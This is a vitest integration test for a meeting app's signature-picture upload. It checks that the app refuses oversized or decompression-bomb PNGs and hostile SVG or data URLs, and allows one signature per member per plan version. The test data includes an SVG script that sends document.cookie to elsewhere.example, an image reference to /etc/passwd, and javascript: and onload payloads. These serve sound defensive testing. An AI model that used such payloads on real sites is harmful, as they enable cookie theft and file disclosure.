// Signature pictures (DESIGN §4 rule 11), through the meeting page's real `?/sign` action: a picture is
// checked by its declared size and bytes before anything is decoded; an SVG must be strokes only and is
// stored as a PNG drawn here; and a member signs each version of the plan once, so nobody can pile up
// pictures in the record — not even after the close.
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { imageSize } from 'image-size';
import type { Database } from '../../src/lib/server/db/client';
import { signatures } from '../../src/lib/server/db/schema';
import { openMeeting } from '../../src/lib/server/meeting-facts';
import { meetingAccess } from '../../src/lib/server/meetings';
import { actions } from '../../src/routes/meetings/[meetingId]/+page.server';
import { drawnPngSignature, drawnSvgSignature, padSvgSignature, pngBomb } from '../support/signature-pictures';
import { testDatabases } from './support/databases';
import { seedDemoMeeting, shownPlanHash, type DemoPeople } from './support/demo-meeting';
import { postForm } from './support/form-action';

const svgUrl = (svg: string) => `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
const pngOf = (dataUrl: string) => Buffer.from(dataUrl.slice(dataUrl.indexOf(',') + 1), 'base64');

describe.each(testDatabases)('signature pictures on $name', (kind) => {
	let database: Database & { drop(): Promise<void> };
	let meetingId: string;
	let people: DemoPeople;

	beforeAll(async () => {
		database = await kind.open();
		({ meetingId, people } = await seedDemoMeeting(database.db));
		const opened = await openMeeting(database.db, people.chair.user, (await meetingAccess(database.db, people.chair.user, meetingId))!);
		if (!opened.ok) throw new Error(opened.message);
	});
	afterAll(async () => {
		await database?.drop();
	});

	// A signature is posted with the version of the plan the page showed: here, the plan as it stands.
	const post = async (action: keyof typeof actions, who: string, fields: Record<string, string>) =>
		postForm(actions[action], {
			db: database.db,
			user: people[who].user,
			params: { meetingId },
			url: `http://localhost:3000/meetings/${meetingId}`,
			fields: action === 'sign' ? { planHash: await shownPlanHash(database.db, meetingId), ...fields } : fields
		});
	const sign = (who: string, fields: Record<string, string>) => post('sign', who, { method: 'drawn', ...fields });
	const stored = () => database.db.select().from(signatures).where(eq(signatures.meetingId, meetingId));

	it('refuses a picture bomb — a PNG of a few hundred bytes declaring 20,000 × 20,000 pixels — by its header, at once, storing nothing', async () => {
		const bomb = pngBomb();
		expect(pngOf(bomb).length).toBeLessThan(400);
		const rss = process.memoryUsage().rss;
		const started = performance.now();
		const answer = await sign('parent', { signature: bomb });
		const took = performance.now() - started;
		expect(answer).toMatchObject({ status: 413, data: { action: 'sign', message: expect.stringMatching(/^Draw your signature again: .*20000 × 20000 pixels; at most 2000 × 1000/) } });
		// Decoding it would take 1.5 GiB and seconds; the header alone takes neither. Memory decides it: time
		// would also count whatever else the machine is doing.
		expect(process.memoryUsage().rss - rss).toBeLessThan(64 * 1024 * 1024);
		console.info(`picture bomb refused in ${took.toFixed(1)} ms; memory grew ${((process.memoryUsage().rss - rss) / 1024 / 1024).toFixed(1)} MiB`);
		expect(await stored()).toEqual([]);
	});

	it('refuses a picture of more than 512 KiB before decoding it, and one wider than 2,000 pixels', async () => {
		const oversized = `data:image/png;base64,${Buffer.concat([pngOf(drawnPngSignature()), Buffer.alloc(600 * 1024, 7)]).toString('base64')}`;
		expect(await sign('parent', { signature: oversized })).toMatchObject({ status: 413, data: { message: expect.stringMatching(/too large \(\d+ KiB; at most 512 KiB\)/) } });
		const wide = svgUrl('<svg xmlns="http://www.w3.org/2000/svg" width="2400" height="100"><path d="M0 50 L2400 50" stroke="#000"/></svg>');
		expect(await sign('parent', { signature: wide })).toMatchObject({ status: 413, data: { message: expect.stringMatching(/2400 × 100 pixels/) } });
		const hugeViewBox = svgUrl('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100" viewBox="0 0 30000 10000"><path d="M0 0 L30000 10000" stroke="#000"/></svg>');
		expect(await sign('parent', { signature: hugeViewBox })).toMatchObject({ status: 413 });
		expect(await stored()).toEqual([]);
	});

	it('refuses an SVG with a script, an event handler, a link out, an embedded picture or a bad %-escape, and stores no trace of it', async () => {
		const hostile = {
			script: svgUrl('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100"><script>fetch("https://elsewhere.example/?"+document.cookie)</script><path d="M0 0 L300 100" stroke="#000"/></svg>'),
			onload: svgUrl('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100" onload="alert(1)"><path d="M0 0 L300 100" stroke="#000"/></svg>'),
			externalHref: svgUrl('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="100"><use xlink:href="https://elsewhere.example/sig.svg#s"/></svg>'),
			localFile: svgUrl('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100"><image width="300" height="100" href="/etc/passwd"/></svg>'),
			styleUrl: svgUrl('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100"><path d="M0 0 L300 100" style="stroke:url(https://elsewhere.example/x)"/></svg>'),
			entities: svgUrl('<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">]><svg xmlns="http://www.w3.org/2000/svg" width="300" height="100"><title>&a;&a;</title></svg>'),
			badEscape: 'data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%20width%3D%22300%22%20height%3D%22100%22%3E%E0%A4%A%3C%2Fsvg%3E',
			badBase64: 'data:image/svg+xml;base64,PHN2Zy!!!',
			notAPicture: 'data:image/png;base64,' + Buffer.from('<script>alert(1)</script>').toString('base64'),
			notADataUrl: 'javascript:alert(1)'
		};
		for (const [name, signature] of Object.entries(hostile)) {
			const answer = await sign('parent', { signature });
			expect({ name, status: answer.status }).toEqual({ name, status: 400 });
			expect(answer.data.message).toMatch(/^Draw your signature again: /);
		}
		const rows = await stored();
		expect(rows).toEqual([]);
		expect(JSON.stringify(rows)).not.toMatch(/script/i);
	});

	it('accepts what the signing page sends — signature_pad’s SVG — and stores only a PNG of it, twice its size in CSS pixels', async () => {
		const answer = await sign('parent', { signature: padSvgSignature(672, 288) });
		expect(answer).toMatchObject({ status: 200, data: { action: 'sign', ok: true } });
		const [row] = await stored();
		expect(row.image).toMatch(/^data:image\/png;base64,[A-Za-z0-9+/]+=*$/);
		expect(imageSize(pngOf(row.image!))).toMatchObject({ type: 'png', width: 1344, height: 576 });
		expect(JSON.stringify(row)).not.toMatch(/svg|script/i);
	});

	it('stores a URL-encoded SVG and a PNG each as a PNG drawn here, within the limits', async () => {
		expect((await sign('school', { signature: drawnSvgSignature() })).status).toBe(200);
		expect((await sign('health', { signature: drawnPngSignature() })).status).toBe(200);
		const rows = (await stored()).filter((r) => r.memberId === people.school.memberId || r.memberId === people.health.memberId);
		expect(rows).toHaveLength(2);
		for (const row of rows) {
			const size = imageSize(pngOf(row.image!));
			expect(size.type).toBe('png');
			expect(size.width).toBeLessThanOrEqual(2000);
			expect(size.height).toBeLessThanOrEqual(1000);
		}
	});

	it('keeps answering while pictures are refused or drawn: another action answers meanwhile and the event loop is never held', async () => {
		// As many strokes as fit in 512 KiB, drawn at 2,000 × 1,000: the heaviest picture signing takes.
		const heaviest = padSvgSignature(2000, 1000, 3300);
		expect(pngOf(heaviest).length).toBeLessThan(512 * 1024);
		// Sent as the signing page sends it (multipart), the body made before the clock starts.
		const boundary = '----signature';
		const part = (name: string, value: string) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
		const body = { contentType: `multipart/form-data; boundary=${boundary}`, text: `${part('method', 'drawn')}${part('planHash', await shownPlanHash(database.db, meetingId))}${part('signature', heaviest)}--${boundary}--\r\n` };
		const loop = monitorEventLoopDelay({ resolution: 5 });
		loop.enable();
		const started = performance.now();
		const timed = <T>(work: Promise<T>) => work.then((answer) => ({ answer, at: performance.now() - started }));
		const [drawn, bomb, attendance] = await Promise.all([
			timed(postForm(actions.sign, { db: database.db, user: people.minutes.user, params: { meetingId }, url: `http://localhost:3000/meetings/${meetingId}`, fields: {}, body })),
			timed(sign('social.worker', { signature: pngBomb() })),
			timed(post('attendance', 'chair', { member: people.parent.memberId, status: 'present' }))
		]);
		loop.disable();
		expect(drawn.answer.status).toBe(200);
		expect(bomb.answer.status).toBe(413);
		expect(attendance.answer.status).toBe(200);
		expect(bomb.at).toBeLessThan(drawn.at);
		expect(attendance.at).toBeLessThan(drawn.at);
		const longestStall = loop.max / 1e6;
		console.info(`heaviest picture drawn in ${drawn.at.toFixed(0)} ms; meanwhile the bomb was refused at ${bomb.at.toFixed(0)} ms, attendance answered at ${attendance.at.toFixed(0)} ms; longest event-loop stall ${longestStall.toFixed(0)} ms`);
		// Drawn on the event loop, the stall would be most of the drawing's time; here the loop turns throughout
		// (relative, so a busy machine slowing both does not decide it).
		expect(longestStall).toBeLessThan(drawn.at / 3);
	});

	it('takes one signature per member per version of the plan: a second is 409 and stores nothing, witnessed or not', async () => {
		const before = (await stored()).length;
		const again = await sign('parent', { signature: padSvgSignature() });
		expect(again).toEqual({ status: 409, data: { action: 'sign', message: 'You have already signed this version of the plan. Sign again only if it changes.' } });
		const typed = await post('sign', 'parent', { method: 'typed', typedName: 'Robin Testcase' });
		expect(typed.status).toBe(409);
		const witnessed = await sign('social.worker', { method: 'witnessed', member: people.parent.memberId, signature: padSvgSignature() });
		expect(witnessed).toMatchObject({ status: 409, data: { message: 'Robin Testcase has already signed this version of the plan. They sign again only if it changes.' } });
		// Many at once cannot slip past the check either.
		const burst = await Promise.all(Array.from({ length: 5 }, () => post('sign', 'chair', { method: 'typed', typedName: 'Morgan Chairfield' })));
		expect(burst.map((a) => a.status).sort()).toEqual([200, 409, 409, 409, 409]);
		expect((await stored()).length).toBe(before + 1);
	});

	it('after the close, takes one late signature per member on the final plan, and no more', async () => {
		expect((await post('close', 'chair', {})).status).toBe(200);
		const late = await post('sign', 'observer', { method: 'typed', typedName: 'Ash' });
		expect(late.status).toBe(403);
		const before = (await stored()).length;
		expect((await post('sign', 'social.worker', { method: 'typed', typedName: people['social.worker'].user.name })).status).toBe(200);
		for (let i = 0; i < 3; i++) {
			expect((await sign('social.worker', { signature: padSvgSignature() })).status).toBe(409);
		}
		expect((await stored()).length).toBe(before + 1);
	});
});
